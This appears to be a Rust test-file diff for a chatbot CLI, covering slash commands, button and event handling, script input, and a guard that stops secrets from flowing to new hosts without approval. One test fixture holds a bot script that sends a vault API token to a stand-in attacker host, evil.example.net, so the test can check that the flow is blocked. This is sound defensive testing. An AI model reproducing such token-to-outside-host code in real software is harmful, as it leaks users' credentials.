@@ -36,8 +36,9 @@ fn commands_begin_with_a_slash() {
         "dialog main do\n  name = ask \"Name?\"\n  say \"Hello #{name}.\"\n  other = ask \"More?\"\n  say other\nend\n";
     let bot = machine.bot("talk", &[("integrations.yaml", "[]\n"), ("main.bubble", script)]);
     let ran =
-        machine.patchbay(&["chat"]).of(&bot).given("Ann\n/restart\n\n//slash\n/jump 2h\n/quit\nunread\n").run().fine();
-    ran.prints("Name?\nHello Ann.\nMore?\nName?\nHello /slash.\nMore?\n").says(&["There is no command /jump"]);
+        machine.patchbay(&["chat"]).of(&bot).given("Ann\n/restart\n\n//slash\n/dance 2h\n/quit\nunread\n").run().fine();
+    ran.prints("Name?\nHello Ann.\nMore?\nName?\nHello /slash.\nMore?\n")
+        .says(&["There is no command /dance", "/login"]);
 }
 
 #[test]
@@ -116,4 +117,46 @@ fn a_locked_vault_is_said_before_the_conversation() {
     let bot = machine.secret_bot();
     machine.patchbay(&["secret", "set", "api_key"]).of(&bot).unlocking().given(CANARY).run().fine();
     machine.patchbay(&["chat"]).of(&bot).given("Ann\n").run().says(&["The vault is locked", "--passphrase-fd"]);
+}
+
+#[test]
+fn time_events_and_buttons_are_commands() {
+    let machine = Machine::new();
+    let script = "buttons \"Choose\" do\n  \"One\" ->\n    event \"picked\", [n: 1]\n  \"Page\" ->\n    open \"https://example.org/\"\nend\nx = ask \"Still there?\", timeout: 60\nsay \"late\"\n\ndialog event: \"order\" do\n  say \"Order #{event.payload.id}\"\nend\n\ndialog event: \"picked\" do\n  say \"Picked #{event.payload.n}\"\nend\n";
+    let bot = machine.bot("events", &[("integrations.yaml", "[]\n"), ("main.bubble", script)]);
+    let lines = "/event order {\"id\": 7}\n/press 1\n/press 9\n/jump 2m\n";
+    let ran = machine.patchbay(&["chat"]).of(&bot).given(lines).run().fine();
+    for said in ["Choose\n  [1] One\n  [2] Page\n", "Order 7\n", "Picked 1\n", "late\n"] {
+        assert!(ran.out.contains(said), "{said:?}: {ran:?}");
+    }
+    ran.says(&["There is no button 9"]);
+    let ran = machine.patchbay(&["chat"]).of(&bot).given("/event order {\n").run();
+    ran.exits(2).says(&["error:"]);
+}
+
+#[test]
+fn a_script_on_standard_input_runs_in_place_of_the_bots() {
+    let machine = Machine::with_vault();
+    let bot = machine.secret_bot();
+    machine.patchbay(&["secret", "set", "api_key"]).of(&bot).unlocking().given(CANARY).run().fine();
+    let script = "dialog main do\nsay \"pasted \" + get_access_token(bot.tokens.api_key)\nend";
+    let ran = machine.patchbay(&["chat", "--script"]).of(&bot).unlocking().given(script).run().fine();
+    ran.prints("pasted ‹secret:api_key›\n");
+    let ran = machine.patchbay(&["chat", "--script"]).of(&bot).unlocking().given("dialog main do\n  say \"").run();
+    ran.exits(1).says(&["pasted.bubble:"]);
+}
+
+#[test]
+fn a_token_goes_nowhere_new_without_a_person() {
+    let machine = Machine::with_vault();
+    let script = "dialog main do\n  t = get_access_token(bot.tokens.api_key)\n  http_get \"https://evil.example.net/\" + t\n  say \"sent\"\nend\n";
+    let bot = machine.bot("leaks", &[("integrations.yaml", MANIFEST), ("main.bubble", script)]);
+    machine.patchbay(&["secret", "set", "api_key"]).of(&bot).unlocking().given(CANARY).run().fine();
+    let ran = machine.patchbay(&["chat"]).of(&bot).unlocking().run().exits(1).prints("");
+    ran.says(&["main.bubble:3:3: ", "evil.example.net", "`patchbay flows approve api_key evil.example.net`"]);
+    machine.patchbay(&["flows", "approve", "api_key", "evil.example.net"]).of(&bot).run().exits(2).says(&["--yes"]);
+    machine.patchbay(&["flows", "approve", "api_key", "https://x/", "--yes"]).of(&bot).run().exits(2);
+    machine.patchbay(&["flows", "approve", "nobody", "x.example", "--yes"]).of(&bot).run().exits(2);
+    machine.patchbay(&["flows", "approve", "api_key", "evil.example.net", "--yes"]).of(&bot).run().fine();
+    machine.patchbay(&["chat"]).of(&bot).unlocking().run().fine().prints("sent\n");
 }
